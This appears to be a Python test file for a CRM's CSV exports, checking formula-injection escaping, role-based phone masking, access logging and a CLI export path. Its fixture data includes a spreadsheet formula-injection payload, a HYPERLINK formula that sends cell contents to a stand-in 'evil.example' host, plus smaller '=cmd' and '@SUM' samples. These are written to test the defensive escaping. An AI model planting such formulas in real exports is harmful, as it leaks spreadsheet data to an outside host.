"""CSV exports: streamed from PostgreSQL, formula-safe, masked by role, access-logged, and the same from the CLI."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from fastapi.testclient import TestClient
from sqlmodel import Session, select

from domain.access.models import AccessLogEntry
from domain.campaigns import service as campaigns
from domain.crm import service as crm
from domain.db import unit_of_work
from domain.exports.rules import safe_cell, safe_cell_sql
from domain.members.models import ContactChannel
from domain.members.rules import mask_phone, mask_phone_sql
from tests.factories import make_api_key, make_member, make_staff, staff_auth

NOW = datetime(2026, 3, 10, 4, 0, tzinfo=UTC)
OLD = NOW - timedelta(days=200)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rows_of(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "a byte-order mark, so spreadsheets read UTF-8"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.fixture
def live(committed_engine):
    """The API on committed data: the export reads on a connection of its own, as in production."""
    from api.main import create_app

    with unit_of_work(committed_engine) as session:
        agent = staff_auth(session, make_staff(session, role="agent", username="agent-7"))
        _, admin_key = make_api_key(session, scope="admin", name="supervisor")
        session.commit()
    with TestClient(create_app(), raise_server_exceptions=False) as client:
        yield client, agent, {"Authorization": f"Bearer {admin_key}"}


def make_call_list(engine, members=3):
    with unit_of_work(engine) as session:
        made = [make_member(session, now=OLD, consents={ContactChannel.PHONE: True}, name=name, city="+Shanghai")
                for name in [EVIL, "王芳", "Li, \"Lei\"\nsecond line"][:members]]
        call_list = crm.create_call_list(session, name="family", product="family-plan", purpose="marketing",
                                         audience={}, weights={}, interest_days=30, recall_hours=48,
                                         agent_capacity=20, now=NOW)
        crm.extract_leads(session, call_list_id=call_list.id, now=NOW)
        session.commit()
        return call_list.id, made


def test_a_call_list_exports_for_a_dialer_formula_safe_and_masked_for_agents(live, committed_engine):
    client, agent, supervisor = live
    list_id, made = make_call_list(committed_engine)
    answer = client.get(f"/v1/crm/call-lists/{list_id}/leads.csv", headers={**agent, "X-Access-Reason": "dialer"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert 'filename="call-list-' in answer.headers["content-disposition"]
    rows = rows_of(answer.content)
    assert list(rows[0]) == ["lead_id", "member_code", "name", "phone", "timezone", "band", "priority", "reason",
                             "state", "agent_id", "tier", "served_tier", "city"]
    by_code = {r["member_code"]: r for r in rows}
    assert set(by_code) == {m.member_code for m in made}
    evil = by_code[made[0].member_code]
    assert evil["name"] == "'" + EVIL and evil["city"] == "'+Shanghai"
    assert by_code[made[1].member_code]["name"] == "王芳"
    assert {(r["tier"], r["served_tier"]) for r in rows} == {("D", "D")}  # nobody here shares an account's tier
    assert by_code[made[2].member_code]["name"] == "Li, \"Lei\"\nsecond line"
    assert all(r["phone"] == mask_phone(m.phone) for m in made for r in [by_code[m.member_code]])
    priorities = [float(r["priority"]) for r in rows]
    assert priorities == sorted(priorities, reverse=True)
    full = rows_of(client.get(f"/v1/crm/call-lists/{list_id}/leads.csv", headers=supervisor).content)
    assert {r["phone"] for r in full} == {m.phone for m in made}
    with Session(committed_engine) as session:
        logged = session.exec(select(AccessLogEntry).where(AccessLogEntry.action == "export.call_list")).all()
    assert sorted((e.member_id, e.api_key_name, e.agent_id, e.reason) for e in logged if e.agent_id == "agent-7") \
        == sorted((m.id, None, "agent-7", "dialer") for m in made)
    assert all(e.staff_id is not None for e in logged if e.agent_id == "agent-7")
    assert client.get("/v1/crm/call-lists/999999/leads.csv", headers=agent).status_code == 404


def test_a_campaign_audience_exports_with_treatment_and_control(live, committed_engine):
    client, _, supervisor = live
    with unit_of_work(committed_engine) as session:
        made = [make_member(session, now=OLD) for _ in range(30)]
        campaign = campaigns.create_campaign(session, name="spring", channel="sms", purpose="marketing",
                                             template="first_offer", audience={}, control_share=0.3,
                                             actor="a", now=NOW)
        campaigns.approve(session, campaign_id=campaign.id, actor="b", now=NOW)
        campaigns.launch(session, campaign_id=campaign.id, now=NOW)
        session.commit()
    rows = rows_of(client.get(f"/v1/campaigns/{campaign.id}/audience.csv", headers=supervisor).content)
    assert {r["member_code"] for r in rows} == {m.member_code for m in made}
    assert {r["group"] for r in rows} == {"treatment", "control"}
    with Session(committed_engine) as session:
        control = session.scalar(sa.text("SELECT count(*) FROM campaign_members WHERE control"))
    assert sum(r["group"] == "control" for r in rows) == control
    assert "phone" not in rows[0] and "name" not in rows[0]


def test_a_member_search_exports_with_the_lists_filters(live, committed_engine):
    client, agent, _ = live
    with unit_of_work(committed_engine) as session:
        vip = make_member(session, name="Zhou VIP", tags=["vip", "=cmd"])
        make_member(session, name="Zhou Plain")
        session.commit()
    rows = rows_of(client.get("/v1/members.csv", headers=agent, params={"name_prefix": "zhou", "tag": "vip"}).content)
    assert [(r["member_id"], r["phone"], r["tags"]) for r in rows] == [(str(vip.id), mask_phone(vip.phone),
                                                                        "vip;=cmd")]
    assert (rows[0]["tier"], rows[0]["served_tier"]) == ("D", "D")  # own tier, and the one served at
    assert client.get("/v1/members.csv", headers=agent, params={"status": "nope"}).status_code == 422


def test_the_cli_exports_a_call_list_with_a_progress_bar(committed_engine, tmp_path):
    from cli.main import main

    list_id, made = make_call_list(committed_engine)
    out = tmp_path / "leads.csv"
    result = CliRunner().invoke(main, ["export", "call-list", str(list_id), "--out", str(out), "--pii",
                                       "--reason", "dialer upload"])
    assert result.exit_code == 0, result.output
    assert "3 leads exported" in result.output
    rows = rows_of(out.read_bytes())
    assert {r["phone"] for r in rows} == {m.phone for m in made}
    with Session(committed_engine) as session:
        reasons = session.exec(select(AccessLogEntry.reason).where(AccessLogEntry.api_key_name == "cli")).all()
    assert reasons == ["dialer upload"] * 3
    missing = CliRunner().invoke(main, ["export", "call-list", "999999", "--out", str(out)])
    assert missing.exit_code == 1 and "call_list_not_found" in missing.output


CELLS = ["", "plain", "=1+1", "+86", "-5", "@SUM(A1)", "\tx", "\rx", "'quoted", "王", " =x", "a=b"]


def test_the_sql_form_of_the_formula_guard_agrees_with_the_python_form(session):
    values = sa.values(sa.column("i", sa.Integer), sa.column("v", sa.String), name="cells").data(
        list(enumerate(CELLS)))
    got = dict(session.execute(sa.select(values.c.i, safe_cell_sql(values.c.v))).all())
    assert [got[i] for i in range(len(CELLS))] == [safe_cell(v) for v in CELLS]


PHONES = [None, "", "+861", "+8613", "+86138", "+861380", "+8613800", "+86138001", "+861380013",
          "+8613800138000", "+14155552671", "+442071838750", "+85291234567"]


def test_the_sql_form_of_phone_masking_agrees_with_the_python_form(session):
    values = sa.values(sa.column("i", sa.Integer), sa.column("p", sa.String), name="phones").data(
        list(enumerate(PHONES)))
    got = dict(session.execute(sa.select(values.c.i, mask_phone_sql(values.c.p))).all())
    assert [got[i] for i in range(len(PHONES))] == [mask_phone(p) for p in PHONES]
